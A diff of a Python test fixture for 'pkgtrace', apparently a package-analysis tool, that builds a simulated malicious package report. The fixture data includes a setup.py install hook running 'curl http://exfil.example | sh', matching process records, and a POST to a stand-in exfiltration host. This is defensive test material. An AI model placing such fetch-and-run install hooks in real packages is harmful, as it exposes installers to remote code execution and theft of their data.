@@ -8,7 +8,7 @@ import sys
 from pathlib import Path
 
 sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "results"))
-from fixture_docs import all_docs  # noqa: E402
+from fixture_docs import all_docs, dynamic_section, static_section  # noqa: E402
 
 from pkgtrace.model import Ecosystem, Package  # noqa: E402
 from pkgtrace.results.index import Index, load_documents  # noqa: E402
@@ -55,29 +55,24 @@ REGISTRY_STORY = [
 
 def malicious_docs() -> dict:
     docs = all_docs(name="evil-pkg", version="1.0.0")
-    docs["report"]["dynamic"] = {
-        "processes": [
+    docs["report"]["dynamic"] = dynamic_section(processes=[
             {"pid": 10, "ppid": None, "phase": "install", "argv": ["pip", "install", "evil-pkg-1.0.0.tar.gz"],
              "exe": "/usr/bin/pip", "exit_code": 0},
             {"pid": 11, "ppid": 10, "phase": "install", "argv": ["sh", "-c", "curl http://exfil.example | sh"],
              "exe": "/bin/sh", "exit_code": 0},
             {"pid": 12, "ppid": 11, "phase": "install", "argv": ["curl", "http://exfil.example"],
              "exe": "/usr/bin/curl", "exit_code": 0},
-        ],
-        "phases": {"install": {"reason": None, "duration_s": 3.2, "exit_code": 0, "network": [
+        ], phases={"install": {"reason": "", "duration_s": 3.2, "exit_code": 0, "network": [
             {"kind": "tcp", "dst": "203.0.113.7", "port": 80, "hostname": "exfil.example",
              "http": {"method": "POST", "target": "/collect", "version": "HTTP/1.1", "host": "exfil.example",
                       "body_b64": "c3NoLXJzYSBBQUFB"}},
             {"kind": "tcp", "dst": "203.0.113.7", "port": 443, "hostname": "cdn.example",
              "tls": {"sni": "cdn.example", "alpn": ["http/1.1"]}, "allowed": False},
-            *REGISTRY_STORY]}},
-    }
-    docs["report"]["static"] = {
-        "install_hooks": [{"kind": "setup.py", "file": "setup.py", "details": {},
-                           "excerpt": "class Install(install):\n    def run(self):\n        os.system('curl http://exfil.example | sh')"}],
-        "signals": [{"kind": "url", "file": "setup.py", "line": 12, "value": "http://exfil.example/x"}],
-        "extraction": {"status": "ok", "errors": []},
-    }
+            *REGISTRY_STORY]}})
+    docs["report"]["static"] = static_section(
+        install_hooks=[{"kind": "setup.py", "file": "setup.py", "details": {},
+                        "excerpt": "class Install(install):\n    def run(self):\n        os.system('curl http://exfil.example | sh')"}],
+        signals=[{"kind": "url", "file": "setup.py", "line": 12, "value": "http://exfil.example/x"}])
     docs["report"]["verdict"]["findings"][1]["evidence"]["excerpt"] = "os.system('curl http://exfil.example | sh')"
     return docs
 
